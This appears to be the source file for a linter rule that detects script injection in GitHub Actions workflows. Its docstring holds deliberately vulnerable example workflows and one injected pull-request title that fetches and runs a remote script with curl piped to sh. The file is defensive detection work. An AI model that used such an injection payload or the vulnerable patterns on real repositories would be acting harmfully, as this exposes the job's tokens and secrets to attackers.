"""Script contains an expression that a stranger can fill.

`${{ }}` is replaced before the shell starts. Text that comes from outside, such as a pull request's title or a branch's
name, is then part of the script: a title of `"; curl https://example.com/x | sh; "` runs, with the job's token and
secrets.

## Fix

Pass the value through `env:` and use the shell's own variable, in quotes: the shell then sees a value, not code.

## References

- [Script injections, GitHub Docs](https://docs.github.com/en/actions/concepts/security/script-injections)
- [Untrusted input, GitHub Security Lab](https://securitylab.github.com/resources/github-actions-untrusted-input/)

## Bad: a title in the script

```yaml .github/workflows/title.yml
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ github.event.pull_request.title }}" # finding
```

## Bad: a few lines down

```yaml .github/workflows/title.yml
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          set -eu
          title="${{ github.event.pull_request.title }}"  # finding
          echo "$title"
```

## Bad: pasted from the environment after all

```yaml .github/workflows/title.yml
on: issues
env:
  TITLE: ${{ github.event.issue.title }}
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ env.TITLE }}" # finding
```

## Bad: in JavaScript

```yaml .github/workflows/comment.yml
on: issue_comment
jobs:
  answer:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: core.info(`${{ github.event.comment.body }}`) # finding
```

## Good: a title in the environment, and values that are safe

```yaml .github/workflows/title.yml
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
      - run: echo "${{ github.event.pull_request.number }} ${{ github.sha }}"
```

## Good: only compared

```yaml .github/workflows/title.yml
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: make ${{ contains(github.event.pull_request.title, '[full]') && 'full' || 'quick' }}
```
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from infracheck.findings.severity import Category, Priority, Severity
from infracheck.rule import Target, rule
from infracheck.workflows.expressions import expressions
from infracheck.workflows.untrusted import OUTSIDERS, is_untrusted
from infracheck.workflows.views import Job

if TYPE_CHECKING:
    from collections.abc import Iterator

    from infracheck.rule import Violation
    from infracheck.workflows import Step

SCRIPT_INPUTS = {
    "actions/github-script": "script",
    "azure/cli": "inlineScript",
    "azure/powershell": "inlineScript",
    "appleboy/ssh-action": "script",
    "addnab/docker-run-action": "run",
    "jannekem/run-python-script-action": "script",
    "mikefarah/yq": "cmd",
}
"""Actions that run one of their inputs as code."""


@rule(
    Target.STEP,
    severity=Severity.HIGH,
    category=Category.SECURITY,
    priority=Priority.P1,
    aliases=("CKV_GHA_2", "zizmor:template-injection"),
    remedy="Pass the value through `env:` and use the shell variable in quotes.",
)
def template_injection(step: Step) -> Iterator[Violation]:
    """Yield the first expression of a script that a stranger can fill."""
    script = step.field["run"]
    if step.uses is not None:
        name = SCRIPT_INPUTS.get(step.uses.name)
        if name is None:
            return
        script = step.input(name)
    for expression in expressions(script.text("") or ""):
        for reference in expression.yields:
            culprit = _untrusted(reference, step)
            if culprit:
                place = step.part(script, expression.start, expression.end)
                message = f"whoever sets `{culprit}` can run code in this step"
                yield step.violation(place, message, severity=None if _is_exposed(step) else Severity.MEDIUM)
                return


def _untrusted(reference: str, step: Step) -> str:
    """The context that a stranger fills, reached directly or through a variable of the workflow; "" for none."""
    if is_untrusted(reference):
        return reference
    context, _, name = reference.partition(".")
    if context != "env" or not name:
        return ""
    written = step.variable_named(name).text("") or ""
    return next((one for found in expressions(written) for one in found.yields if is_untrusted(one)), "")


def _is_exposed(step: Step) -> bool:
    """Whether strangers can start it with the repository's own token; in an action of its own nothing tells."""
    if not isinstance(step.holder, Job):
        return True
    triggers = set(step.holder.workflow.triggers)
    return bool(triggers & OUTSIDERS) or "pull_request" not in triggers
